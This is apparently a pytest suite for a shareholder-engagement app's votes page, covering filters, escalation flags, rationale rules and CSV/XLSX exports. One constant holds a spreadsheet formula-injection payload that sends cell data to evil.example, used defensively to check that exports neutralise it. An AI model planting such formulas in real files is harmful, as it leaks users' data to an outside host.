"""The votes and AGM season page (/votes): the AGMs of the companies an organisation holds or
engages, its votes filtered by period, status and the consistency check, the flags and the
rationale they need, instructing a vote in place, and the exports for the proxy agent."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import timedelta

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from engage.organisations.tokens import create_token
from engage.audit.models import AuditEvent
from engage.engagements.models import Engagement, EngagementStatus
from engage.escalations.models import StepKind
from engage.tenancy import as_organisation, system_scope
from engage.votes.models import Vote, VoteInstruction, VoteItemKind, VoteStatus

from tests import factories as f
from tests.engagements.conftest import HX, act_as, post
from tests.escalations.conftest import NOW, TODAY
from tests.votes.conftest import _add_vote, load, vote_audits

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@dataclass
class Season:
    v: object  # the VoteWorld
    board_for: int  # the lead's proposal *for* the directors of the escalated company
    departs: int  # the lead's proposal that departs from the ask, on the other company
    past: int  # the lead's instructed vote at last month's AGM
    later: int  # the lead's vote at an AGM after the season (in 250 days)
    hidden_escalation: int  # a vote for the directors of a company only the outsider escalates
    outsider_flagged: int
    held_company: int  # held by the lead, AGM in 20 days
    stranger_company: int  # neither held nor engaged by the lead, AGM in 10 days
    outsider_held: int  # held by the outsider only, AGM in 15 days


@pytest.fixture
def season(db_session, votes, frozen_clock) -> Season:
    frozen_clock(NOW)
    w = votes.w
    with system_scope("test season"):
        engagement = db_session.get(Engagement, w.engagement.id)
        step = next(s for s in w.steps if s.kind == StepKind.VOTE_AGAINST_DIRECTORS)
        engagement.current_step_id = step.id  # the leads escalated to voting against directors
        company = engagement.company
        other = db_session.get(type(company), votes.other_company)
        other.next_agm_on = TODAY + timedelta(days=20)
        other.isin = "NL0000000042"
        f.holding(w.lead, other)
        asked = db_session.get(Vote, votes.asked)
        asked.item_kind = VoteItemKind.DIRECTORS
        board_for = _add_vote(w.lead, company, item="Discharge of the board",
                              item_kind=VoteItemKind.DIRECTORS,
                              instruction=VoteInstruction.FOR, status=VoteStatus.PROPOSED)
        departs = _add_vote(w.lead, other, item=HOSTILE, agm_on=TODAY + timedelta(days=20),
                            requested_instruction=VoteInstruction.AGAINST,
                            instruction=VoteInstruction.ABSTAIN, status=VoteStatus.PROPOSED)
        past = _add_vote(w.lead, other, item="Adoption of the accounts 2025",
                         agm_on=TODAY - timedelta(days=30), instruction=VoteInstruction.FOR,
                         item_kind=VoteItemKind.REPORT, status=VoteStatus.CAST,
                         rationale="Cast as instructed")
        later = _add_vote(w.lead, other, item="Appointment of the auditor",
                          agm_on=TODAY + timedelta(days=250), status=VoteStatus.INSTRUCTED)
        # A company escalated by the outsider alone: the lead cannot see that engagement.
        secret = f.company(name="Secret escalation plc")
        outsider_engagement = f.engagement(secret, w.outsider, ladder_id=w.ladder.id)
        outsider_engagement.current_step_id = step.id
        hidden = _add_vote(w.lead, secret, item="Re-election of the chair",
                           item_kind=VoteItemKind.DIRECTORS, instruction=VoteInstruction.FOR,
                           status=VoteStatus.PROPOSED)
        outsider_flagged = _add_vote(w.outsider, secret, item="Outsider's board vote",
                                     item_kind=VoteItemKind.DIRECTORS,
                                     instruction=VoteInstruction.FOR)
        stranger = f.company(name="Stranger plc", next_agm_on=TODAY + timedelta(days=10))
        outsider_held = f.company(name="Outsider holding plc",
                                  next_agm_on=TODAY + timedelta(days=15))
        f.holding(w.outsider, outsider_held)
        db_session.flush()
        built = Season(votes, board_for.id, departs.id, past.id, later.id, hidden.id,
                       outsider_flagged.id, other.id, stranger.id, outsider_held.id)
    db_session.commit()
    return built


def _page(client, s: Season, query: str = "", status: int = 200) -> str:
    response = client.get(f"/votes{query}")
    text = response.get_data(as_text=True)
    assert response.status_code == status, (query, text[:2000])
    return text


def _listed(text: str, s: Season) -> set[int]:
    ids = {"asked": s.v.asked, "board_for": s.board_for, "departs": s.departs, "past": s.past,
           "later": s.later, "hidden": s.hidden_escalation}
    return {name for name, vid in ids.items() if f'id="vote-{vid}"' in text}


def test_the_page_is_in_the_navigation_and_lists_agms_votes_counts_and_flags(
        client, db_session, season):
    s, w = season, season.v.w
    act_as(client, w.lead_user, w.lead)
    home = client.get("/").get_data(as_text=True)
    assert 'href="/votes"' in home
    text = _page(client, s)
    assert 'aria-current="page"' in text.split('href="/votes"')[1][:30]
    # Upcoming by default: not last month's AGM.
    assert _listed(text, s) == {"asked", "board_for", "departs", "later", "hidden"}
    # AGMs: the engaged company and the held one, never a stranger's or the outsider's holding.
    assert f'data-agm-company="{w.company.id}"' in text
    assert f'data-agm-company="{s.held_company}"' in text and "NL0000000042" in text
    assert f'data-agm-company="{s.stranger_company}"' not in text
    assert f'data-agm-company="{s.outsider_held}"' not in text
    # The counts of the period: four proposals (asked, board_for, departs, hidden), one
    # instructed (later), none cast; two flagged.
    assert 'data-count="proposed">To instruct (proposed): 4<' in text
    assert 'data-count="instructed">Instructed: 1<' in text
    assert 'data-count="cast">Cast: 0<' in text
    assert "Flagged: 2" in text
    counts = client.get("/votes/counts?period=all", headers=HX).get_data(as_text=True)
    assert counts.lstrip().startswith("<ul") and "Cast: 1<" in counts and "Flagged: 2" in counts
    # The flags and why.
    row = text.split(f'id="vote-{s.board_for}"')[1].split("</tr>")[0]
    assert 'data-flagged="yes"' in text.split(f'id="vote-{s.board_for}"')[1][:80]
    assert 'data-flag="escalation"' in row and "company under escalation" in row
    assert w.engagement.title in row and "Vote against directors" in row
    assert "Needs your rationale" in row
    row = text.split(f'id="vote-{s.departs}"')[1].split("</tr>")[0]
    assert 'data-flag="departs"' in row and "asked to vote against" in row
    for vid in (s.v.asked, s.hidden_escalation, s.later):  # consistent, or not visibly escalated
        assert 'data-flagged="no"' in text.split(f'id="vote-{vid}"')[1][:80], vid
    # Never another organisation's vote.
    assert f'vote-{s.v.outsider_vote}"' not in text and f'vote-{s.outsider_flagged}"' not in text
    assert "Outsider&#39;s board vote" not in text and "Outsider's board vote" not in text


@pytest.mark.parametrize("query, expected", [
    ("?period=30", {"departs"}),
    ("?period=90", {"departs"}),
    ("?period=season", {"asked", "board_for", "hidden"}),
    ("?period=past", {"past"}),
    ("?period=all", {"asked", "board_for", "departs", "past", "later", "hidden"}),
    ("?period=all&status=cast", {"past"}),
    ("?period=all&status=instructed", {"later"}),
    ("?status=proposed", {"asked", "board_for", "departs", "hidden"}),
    ("?period=all&flagged=1", {"board_for", "departs"}),
    ("?period=season&flagged=1", {"board_for"}),
])
def test_the_filters_are_in_the_query_string(client, db_session, season, query, expected):
    w = season.v.w
    act_as(client, w.lead_user, w.lead)
    text = _page(client, season, query)
    assert _listed(text, season) == expected
    # The filter form shows what the URL asked for, and the exports carry the same filters.
    for key, value in (part.split("=") for part in query.lstrip("?").split("&")):
        assert f'<option value="{value}" selected>' in text
        assert f"{key}={value}" in text.split("Download CSV")[0].rsplit("href=", 1)[1]


def test_the_season_and_the_30_days_use_their_dates(client, db_session, season):
    w = season.v.w
    act_as(client, w.lead_user, w.lead)
    # 22 Nov 2026: the next season is 2027's, from 1 January to 30 June.
    assert "AGM season 2027" in _page(client, season, "?period=season")
    text = _page(client, season, "?period=30")
    assert f'data-agm-company="{season.held_company}"' in text
    assert f'data-agm-company="{w.company.id}"' not in text  # 120 days away


def test_an_agm_known_only_from_a_vote_is_listed_with_the_vote(client, db_session, season):
    """The company record may carry no next AGM (or another date) while the organisation has
    a vote for an AGM: that AGM is listed all the same, with its votes, and says why."""
    w = season.v.w
    act_as(client, w.lead_user, w.lead)
    text = _page(client, season)
    with system_scope("test reads"):
        secret, outsider_only = (db_session.scalar(sa.select(Vote.company_id).where(
            Vote.id == vid)) for vid in (season.hidden_escalation, season.outsider_flagged))
    row = text.split(f'data-agm-company="{secret}"')[1].split("</tr>")[0]
    assert "Your votes" in row and "Held" not in row and "Engaged" not in row
    assert row.rstrip().endswith("<td>1</td>")  # the one vote at that AGM
    # The outsider also votes at that AGM: the row counts the lead's own vote alone.
    assert outsider_only == secret


@pytest.mark.parametrize("query", ["?status=maybe", "?period=tomorrow", "?flagged=yes",
                                   "?page=abc", "?page=0", "?period=%00", "?status=proposed%27"])
def test_bad_filters_are_a_400_not_a_500(client, db_session, season, query):
    w = season.v.w
    act_as(client, w.lead_user, w.lead)
    for path in ("/votes", "/votes/export.csv", "/votes/export.xlsx"):
        if "page" in query and path != "/votes":
            continue
        response = client.get(path + query)
        assert response.status_code == 400, (path, query, response.status_code)
    assert "is not one of the options" in _page(client, season, "?status=maybe", 400)
    assert client.get("/votes/export.pdf").status_code == 404


def test_a_vote_for_the_board_of_an_escalated_company_needs_a_rationale_in_place(
        client, db_session, season):
    s, w = season, season.v.w
    token = act_as(client, w.lead_user, w.lead)
    form = client.get(f"/votes/{s.board_for}/edit?back=votes", headers=HX)
    text = form.get_data(as_text=True)
    assert form.status_code == 200 and 'colspan="9"' in text and 'name="back" value="votes"' in text
    assert 'data-flag="escalation"' in text
    refused = post(client, f"/votes/{s.board_for}", token, htmx=True, back="votes",
                   instruction="for", status="instructed", rationale="")
    text = refused.get_data(as_text=True)
    assert refused.status_code == 400 and text.lstrip().startswith("<tr")
    assert "under escalation" in text and 'role="alert"' in text
    assert '<option value="instructed" selected>' in text  # what was typed is kept
    assert load(db_session, s.board_for).status is VoteStatus.PROPOSED
    saved = post(client, f"/votes/{s.board_for}", token, htmx=True, back="votes",
                 instruction="for", status="instructed",
                 rationale="The board has since published a living-wage roadmap.")
    row = saved.get_data(as_text=True)
    assert saved.status_code == 200 and row.lstrip().startswith("<tr")
    assert saved.headers["HX-Trigger"] == "vote-changed"  # the page's counts reload
    assert 'data-status="instructed"' in row and w.company.name in row  # the votes page's row
    assert 'data-flagged="yes"' in row and "Needs your rationale" not in row
    v = load(db_session, s.board_for)
    assert (v.status, v.instruction) == (VoteStatus.INSTRUCTED, VoteInstruction.FOR)
    assert "vote.update" in vote_audits(db_session, s.board_for)
    # Without JavaScript: the page again with the message (400), or back to /votes.
    bad = post(client, f"/votes/{s.departs}", token, back="votes", status="instructed",
               rationale="")
    assert bad.status_code == 400 and "differs from what" in bad.get_data(as_text=True)
    done = post(client, f"/votes/{s.departs}", token, back="votes", status="instructed",
                rationale="We abstain until the audit is published.")
    assert done.status_code == 303 and done.headers["Location"].endswith(f"/votes#vote-{s.departs}")


def test_the_flag_needs_a_visible_active_escalation(client, db_session, season):
    s, w = season, season.v.w
    token = act_as(client, w.lead_user, w.lead)
    # Escalated by another organisation's engagement the lead cannot see: no flag, no rule.
    ok = post(client, f"/votes/{s.hidden_escalation}", token, htmx=True, back="votes",
              status="instructed", rationale="")
    assert ok.status_code == 200 and 'data-flagged="no"' in ok.get_data(as_text=True)
    # Once the engagement closes, the vote for the board is consistent again.
    with system_scope("test"):
        engagement = db_session.get(Engagement, w.engagement.id)
        engagement.status, engagement.closed_on = EngagementStatus.CLOSED_SUCCESS, TODAY
        db_session.commit()
    assert 'data-flagged="no"' in _page(client, s).split(f'id="vote-{s.board_for}"')[1][:80]
    ok = post(client, f"/votes/{s.board_for}", token, htmx=True, back="votes",
              status="instructed", rationale="")
    assert ok.status_code == 200


def test_recording_a_vote_from_the_page_needs_the_kind_and_a_rationale_when_flagged(
        client, db_session, season):
    s, w = season, season.v.w
    token = act_as(client, w.lead_user, w.lead)
    text = _page(client, s, "?period=season")
    assert f'action="/votes?back=votes&amp;period=season"' in text
    form = {"company_id": str(w.company.id), "agm_on": season.v.agm.isoformat(),
            "item": "Re-election of Ms Example", "item_kind": "directors",
            "instruction": "for", "status": "instructed", "rationale": ""}
    refused = client.post("/votes?back=votes&period=season", data={**form, "csrf_token": token})
    text = refused.get_data(as_text=True)
    assert refused.status_code == 400 and "under escalation" in text
    assert 'value="Re-election of Ms Example"' in text  # the input is kept
    assert '<option value="season" selected>' in text
    done = client.post("/votes?back=votes&period=season",
                       data={**form, "rationale": "She chairs the new wages committee.",
                             "csrf_token": token})
    assert done.status_code == 303 and "/votes?period=season#vote-" in done.headers["Location"]
    with as_organisation(w.lead.id):
        vote = db_session.scalar(sa.select(Vote).where(Vote.item == "Re-election of Ms Example"))
        assert (vote.item_kind, vote.status) == (VoteItemKind.DIRECTORS, VoteStatus.INSTRUCTED)
    # The same without a kind is "another item": no flag, no rationale needed.
    form.update(item="Any other business", item_kind="")
    assert client.post("/votes?back=votes", data={**form, "csrf_token": token}).status_code == 303
    bad = client.post("/votes?back=votes", data={**form, "item": "X", "item_kind": "board",
                                                  "csrf_token": token})
    assert bad.status_code == 400 and "is not one of the options" in bad.get_data(as_text=True)
    # CSRF is required.
    assert client.post("/votes?back=votes", data=form).status_code == 400


def test_the_api_enforces_the_same_rule(client, db_session, season):
    s, w = season, season.v.w
    with as_organisation(w.lead.id):
        secret = create_token(db_session, organisation=w.lead, name="votes", scope="write",
                              created_by=w.lead_user).secret
        db_session.commit()
    headers = {"Authorization": f"Bearer {secret}"}
    refused = client.patch(f"/api/v1/votes/{s.board_for}", headers=headers,
                           json={"status": "instructed"})
    assert refused.status_code == 400 and "under escalation" in refused.get_json()["errors"]["rationale"][0]
    body = client.get(f"/api/v1/votes/{s.board_for}", headers=headers).get_json()
    assert (body["item_kind"], body["status"]) == ("directors", "proposed")
    created = client.post("/api/v1/votes", headers=headers, json={
        "company_id": w.company.id, "agm_on": season.v.agm.isoformat(), "item": "Annual report",
        "item_kind": "report", "instruction": "for"})
    assert created.status_code == 400 and "rationale" in created.get_json()["errors"]
    created = client.post("/api/v1/votes", headers=headers, json={
        "company_id": w.company.id, "agm_on": season.v.agm.isoformat(), "item": "Annual report",
        "item_kind": "report", "instruction": "for", "rationale": "Audited and complete."})
    assert created.status_code == 201 and created.get_json()["item_kind"] == "report"
    done = client.patch(f"/api/v1/votes/{s.board_for}", headers=headers,
                        json={"status": "instructed", "rationale": "Roadmap published."})
    assert done.status_code == 200


def _csv(response) -> list[list[str]]:
    text = response.get_data().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_the_csv_export_is_formula_safe_filtered_and_private(client, db_session, season):
    s, w = season, season.v.w
    act_as(client, w.lead_user, w.lead)
    response = client.get("/votes/export.csv?period=all")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = _csv(response)
    assert rows[0][:4] == ["Company", "ISIN", "AGM date", "Item"]
    assert "Flagged" in rows[0] and "Requested instruction" in rows[0]
    items = [r[3] for r in rows[1:]]
    assert len(rows) == 7 and "'" + HOSTILE in items and HOSTILE not in items
    hostile = next(r for r in rows[1:] if r[3] == "'" + HOSTILE)
    assert hostile[:3] == ["Other plc", "NL0000000042", (TODAY + timedelta(days=20)).isoformat()]
    assert hostile[5:] == ["abstain", "", "proposed", "against", "yes", hostile[10]]
    assert "asked to vote against" in hostile[10]
    assert "Outsider's board vote" not in items and "Adoption of the accounts" not in items
    # The page's filters apply.
    assert [r[3] for r in _csv(client.get("/votes/export.csv?period=past"))[1:]] == [
        "Adoption of the accounts 2025"]
    flagged = _csv(client.get("/votes/export.csv?period=all&flagged=1"))[1:]
    assert sorted(r[3] for r in flagged) == sorted(["Discharge of the board", "'" + HOSTILE])
    with system_scope("test"):
        assert db_session.scalar(sa.select(sa.func.count()).select_from(AuditEvent).where(
            AuditEvent.action == "votes.export")) == 3
    # The outsider's export holds its own votes only.
    act_as(client, w.outsider_user, w.outsider)
    items = [r[3] for r in _csv(client.get("/votes/export.csv?period=all"))[1:]]
    assert sorted(items) == sorted(["Adoption of the accounts", "Outsider's board vote"])


def test_the_xlsx_export_opens_and_holds_the_rows(client, db_session, season):
    s, w = season, season.v.w
    act_as(client, w.lead_user, w.lead)
    response = client.get("/votes/export.xlsx?period=all&status=proposed")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][:4] == ["Company", "ISIN", "AGM date", "Item"]
    assert sorted(r[3] for r in values[1:]) == sorted([
        "Re-election of the directors responsible for wages", "Discharge of the board",
        "'" + HOSTILE, "Re-election of the chair"])
    for row in sheet.iter_rows(min_row=2):
        assert row[3].data_type == "s"  # never a formula
        assert row[2].value.date() == row[2].value.date()  # a real date cell
    flags = {r[3]: r[9] for r in values[1:]}
    assert flags["Discharge of the board"] == "yes" and flags["Re-election of the chair"] == "no"


def test_dutch_page(client, db_session, season):
    w = season.v.w
    act_as(client, w.lead_user, w.lead)
    with system_scope("test"):
        from engage.organisations.models import User
        db_session.get(User, w.lead_user.id).locale = "nl"
        db_session.commit()
    text = _page(client, season)
    assert "Stemmingen en AVA-seizoen" in text and "Gemarkeerd" in text
